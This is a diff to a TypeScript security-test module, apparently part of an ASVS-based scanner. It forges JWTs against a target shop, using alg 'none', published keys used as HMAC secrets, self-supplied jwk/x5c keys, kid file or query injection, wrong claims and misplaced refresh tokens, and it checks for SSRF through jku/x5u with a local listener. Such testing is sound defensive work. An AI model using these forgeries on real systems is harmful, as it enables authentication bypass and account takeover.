@@ -1,3 +1,4 @@
+import type { JsonWebKey } from 'node:crypto';
 import { once } from 'node:events';
 import { createServer } from 'node:http';
 import { type Attack, type AttackResult, notApplicable, Tries } from '../attack.js';
@@ -8,6 +9,7 @@ import {
   type Header,
   makeContent,
   makeShopSigner,
+  ownPairs,
   readToken,
   type TokenContent,
 } from '../tools/forge-jwt.js';
@@ -43,6 +45,7 @@ async function tryTypes(target: Target) {
   return tryForgeries(target, async forge => {
     const ring = await target.keyRing();
     const typed = types.map(typ => ({
+      probe: 'another type',
       what: `typ ${JSON.stringify(typ)} under a good signature`,
       token: cookieOf({ ...forge.header, typ } satisfies Header, forge.content, makeShopSigner(ring)),
     }));
@@ -59,49 +62,76 @@ async function preLoginToken(target: Target): Promise<string> {
 
 function misplaceTokens({ ownCookie, content }: Forge, preLogin: string): readonly Forgery[] {
   const [access = '', refresh = ''] = ownCookie.split('~');
+  const [own, other] = ['a part of the own cookie', 'a pre-authentication token'];
   return [
-    { what: 'the refresh token alone', token: refresh },
-    { what: 'the refresh token in both places', token: `${refresh}~${refresh}` },
-    { what: 'the refresh token and no access token', token: `~${refresh}` },
-    { what: 'the access token alone', token: access },
-    { what: 'the access token and no refresh token', token: `${access}~` },
-    { what: 'the access token in both places', token: `${access}~${access}` },
-    { what: 'the access token with the refresh token of another session', token: `${access}~${content.refresh}` },
-    { what: 'the pre-authentication token', token: preLogin },
-    { what: 'the pre-authentication token with a refresh token', token: `${preLogin}~${refresh}` },
-    { what: 'the access token with the pre-authentication token', token: `${access}~${preLogin}` },
+    { probe: own, what: 'the refresh token alone', token: refresh },
+    { probe: own, what: 'the refresh token in both places', token: `${refresh}~${refresh}` },
+    { probe: own, what: 'the refresh token and no access token', token: `~${refresh}` },
+    { probe: own, what: 'the access token alone', token: access },
+    { probe: own, what: 'the access token and no refresh token', token: `${access}~` },
+    { probe: own, what: 'the access token in both places', token: `${access}~${access}` },
+    {
+      probe: own,
+      what: 'the access token with the refresh token of another session',
+      token: `${access}~${content.refresh}`,
+    },
+    { probe: other, what: 'the pre-authentication token', token: preLogin },
+    { probe: other, what: 'the pre-authentication token with a refresh token', token: `${preLogin}~${refresh}` },
+    { probe: other, what: 'the access token with the pre-authentication token', token: `${access}~${preLogin}` },
   ];
 }
 
 export const jwtType: Attack = {
   title: 'send a refresh or pre-authentication token, or a token signed as another type, in place of an access token',
   asvs: ['9.2.2'],
-  weak: ['jwt-trusting'],
+  probes: {
+    'another type': ['jwt-trusting'],
+    'a part of the own cookie': ['jwt-trusting'],
+    'a pre-authentication token': ['jwt-trusting'],
+  },
   run: tryTypes,
 };
 
 export const jwtAlgorithm: Attack = {
-  title: 'send a token that asks for another algorithm: "none" in every spelling, or a public key used as a secret',
+  title: 'send a token that asks for another algorithm: "none" in every spelling, or a published key used as a secret',
   asvs: ['9.1.2'],
-  weak: ['jwt-trusting'],
+  probes: { 'alg "none"': ['jwt-trusting'], 'another digest': ['jwt-trusting'], 'a published key': ['jwt-trusting'] },
   run: target =>
-    tryForgeries(target, ({ header, content, ownSignature }) => forgeAlgorithms(header, content, ownSignature)),
+    tryForgeries(target, async ({ header, content }, tries) =>
+      forgeAlgorithms(header, content, await target.keyRing(), await fetchPublishedKeys(target, tries)),
+    ),
 };
+
+const keyPaths = ['/.well-known/jwks.json', '/jwks.json', '/keys.json', '/.well-known/openid-configuration/jwks'];
+
+/** Returns the public keys that the system publishes (RFC 7517 section 5). None is the usual answer: it has a secret. */
+async function fetchPublishedKeys(target: Target, tries: Tries): Promise<readonly JsonWebKey[]> {
+  const answers = await Promise.all(keyPaths.map(path => target.browser().get(path)));
+  // Looking for a key is a try: without a published key there is nothing to sign with.
+  for (const answer of answers) tries.of('a published key').add('no key is published here', false, answer);
+  return answers.flatMap(({ status, json: { keys } }) =>
+    status === 200 && Array.isArray(keys) ? keys.map(Object) : [],
+  );
+}
 
 export const jwtSignature: Attack = {
   title:
     'send a token with a signature that is missing, empty, all zeros, made over another text or with a guessed key',
   asvs: ['9.1.1'],
-  weak: ['jwt-trusting'],
+  probes: {
+    'no signature': ['jwt-trusting'],
+    'another signature': ['jwt-trusting'],
+    'a guessed key': ['jwt-trusting'],
+  },
   run: target =>
-    tryForgeries(target, ({ header, content, ownSignature }) => forgeSignatures(header, content, ownSignature)),
+    tryForgeries(target, async ({ header, content, ownSignature }) => forgeSignatures(header, content, ownSignature)),
 };
 
 /** The tokens are signed with the key of the shop, as by another service that shares it. */
 export const jwtAudience: Attack = {
   title: 'send a well-signed token that was made for another audience or by another issuer',
   asvs: ['9.2.3', '9.2.4'],
-  weak: ['jwt-trusting'],
+  probes: { aud: ['jwt-trusting'], iss: ['jwt-trusting'] },
   run: target =>
     tryForgeries(target, async ({ header, content }) =>
       forgeClaims(header, content, await target.keyRing(), listForeignClaims(content.claims)),
@@ -109,12 +139,18 @@ export const jwtAudience: Attack = {
 };
 
 export const jwtOwnKey: Attack = {
-  title: 'send a token that brings its own key (jwk, x5c), names a file as its key (kid), or says how to read it',
+  title: 'send a token that brings its own key (jwk, x5c), names a file or query as its key (kid), or has an extension',
   asvs: ['9.1.3'],
-  weak: ['jwt-trusting'],
+  probes: {
+    'a key in jwk': ['jwt-trusting'],
+    'a certificate in x5c': ['jwt-trusting'],
+    'a file as kid': ['jwt-trusting'],
+    'a query as kid': ['jwt-trusting'],
+    'an unknown extension': ['jwt-trusting'],
+  },
   run: target =>
     tryForgeries(target, async ({ header, content }) => [
-      ...forgeWithOwnKeys(header, content),
+      ...forgeWithOwnKeys(header, content, await ownPairs()),
       ...forgeExtensions(header, content, await target.keyRing()),
     ]),
 };
@@ -123,57 +159,57 @@ export const jwtOwnKey: Attack = {
 export const jwtTimes: Attack = {
   title: 'send a well-signed token whose expiry is missing, no number, past or years away, or that is not valid yet',
   asvs: ['9.2.1'],
-  weak: ['jwt-trusting'],
+  probes: { exp: ['jwt-trusting'], iat: ['jwt-trusting'], nbf: ['jwt-trusting'], absolute: ['jwt-trusting'] },
   run: target =>
     tryForgeries(target, async ({ header, content }) =>
       forgeClaims(header, content, await target.keyRing(), listWrongTimes(Date.now() / 1000)),
     ),
 };
 
-/** Counts a connection to a named address as success too: an attacker could send requests through the server (SSRF). */
+/** Counts a request to a named address as success too: an attacker could send requests through the server (SSRF). */
 async function tryKeyAddresses(target: Target): Promise<AttackResult> {
+  if (target.strategy !== 'jwt') return notApplicable(noSignedToken);
   return withListener(listenersAnswer, async listener => {
-    const { status } = await fetch(`${listener.url}/keys.json`);
-    const own = listener.connections();
-    if (status !== 200 || own === 0) throw new Inconclusive('the listener does not count connections');
-    const result = await tryForgeries(target, ({ header, content }) =>
-      forgeKeyAddresses(header, content, listener.url),
-    );
-    const connections = listener.connections() - own;
-    if (result.outcome === 'not applicable' || connections === 0) return result;
-    const reason = `the system connected ${connections} times to an address that a token named`;
-    return { exchanges: [], ...result, outcome: 'succeeded', reason };
+    const { status } = await fetch(`${listener.url}/own`);
+    if (status !== 200 || !listener.paths.has('/own')) throw new Inconclusive('the listener does not see its requests');
+    const tries = new Tries();
+    const forge = await prepareProvenForge(target);
+    for (const { probe, what, token } of forgeKeyAddresses(forge.header, forge.content, listener.url)) {
+      const { user, answer } = await fetchUser(target, token);
+      const isAsked = [...listener.paths].some(path => path.startsWith(`/${probe}`));
+      const reason = isAsked ? `${what}: the system asked the named address` : `${what}: accepted as ${user}`;
+      tries.of(probe).add(reason, isAsked || user !== undefined, answer);
+    }
+    return tries.result();
   });
 }
 
 export const jwtKeyAddress: Attack = {
-  title: "send a token that names the attacker's server as the address of its key (jku, x5u, kid); count connections",
+  title: "send a token that names the attacker's server as the address of its key (jku, x5u, kid, iss); count requests",
   asvs: ['9.1.3'],
-  weak: ['jwt-trusting'],
+  probes: { jku: ['jwt-trusting'], x5u: ['jwt-trusting'], kid: ['jwt-trusting'], iss: ['jwt-trusting'] },
   run: tryKeyAddresses,
 };
 
-/** A server of the attacker on a real socket. Only a system that followed a token connects to it. */
+/** A server of the attacker on a real socket. Only a system that followed a token asks it. */
 interface Listener {
   readonly url: string;
-  /** Returns the number of connections so far. */
-  connections(): number;
+  /** The paths of the requests so far. */
+  readonly paths: ReadonlySet<string>;
 }
 
 /** Runs `work` with a listener that answers every request with `answer`, then closes the listener. */
 export async function withListener<T>(answer: string, work: (listener: Listener) => Promise<T>): Promise<T> {
-  let connections = 0;
-  const server = createServer((_request, response) => {
+  const paths = new Set<string>();
+  const server = createServer(({ url = '' }, response) => {
+    paths.add(url);
     response.writeHead(200, { 'content-type': 'application/json', connection: 'close' }).end(answer);
-  });
-  server.on('connection', () => {
-    connections += 1;
   });
   await once(server.listen(0, '127.0.0.1'), 'listening');
   const address = server.address();
   const port = typeof address === 'object' && address !== null ? address.port : 0;
   try {
-    return await work({ url: `http://127.0.0.1:${port}`, connections: () => connections });
+    return await work({ url: `http://127.0.0.1:${port}`, paths });
   } finally {
     server.closeAllConnections();
     server.close();
@@ -189,27 +225,35 @@ interface Forge {
   readonly victim: string;
 }
 
-/**
- * Sends every cookie that `forgeries` makes to GET /me. First it shows that the forged claims are right: signed with
- * the key of the shop, they are accepted as the victim. So every refusal of a forgery is due to what is wrong with it.
- */
+const noSignedToken = 'the session cookie is not a signed token';
+
+/** Sends every cookie that `forgeries` makes to GET /me. */
 async function tryForgeries(
   target: Target,
-  forgeries: (forge: Forge) => Promise<readonly Forgery[]> | readonly Forgery[],
+  forgeries: (forge: Forge, tries: Tries) => Promise<readonly Forgery[]>,
 ): Promise<AttackResult> {
-  if (target.strategy !== 'jwt') return notApplicable('the session cookie is not a signed token');
-  const forge = await prepareForge(target);
-  const sound = cookieOf(forge.header, forge.content, makeShopSigner(await target.keyRing()));
-  if ((await fetchUser(target, sound)).user !== forge.victim)
-    throw new Inconclusive(
-      'the same claims signed with the genuine key are not accepted, so the forgeries would prove nothing',
-    );
+  if (target.strategy !== 'jwt') return notApplicable(noSignedToken);
+  const forge = await prepareProvenForge(target);
   const tries = new Tries();
-  for (const { what, token } of await forgeries(forge)) {
+  for (const { probe, what, token } of await forgeries(forge, tries)) {
+    if (tries.of(probe).hasSucceeded) continue;
     const { user, answer } = await fetchUser(target, token);
-    tries.add(`${what}: accepted as ${user}`, user !== undefined, answer);
+    tries.of(probe).add(`${what}: accepted as ${user}`, user !== undefined, answer);
   }
   return tries.result();
+}
+
+/**
+ * Shows first that the forged claims are right: signed with the key of the shop, they are accepted as the victim. So
+ * every refusal of a forgery is due to what is wrong with it.
+ */
+async function prepareProvenForge(target: Target): Promise<Forge> {
+  const forge = await prepareForge(target);
+  const sound = cookieOf(forge.header, forge.content, makeShopSigner(await target.keyRing()));
+  if ((await fetchUser(target, sound)).user === forge.victim) return forge;
+  throw new Inconclusive(
+    'the same claims signed with the genuine key are not accepted, so the forgeries would prove nothing',
+  );
 }
 
 async function prepareForge(target: Target): Promise<Forge> {
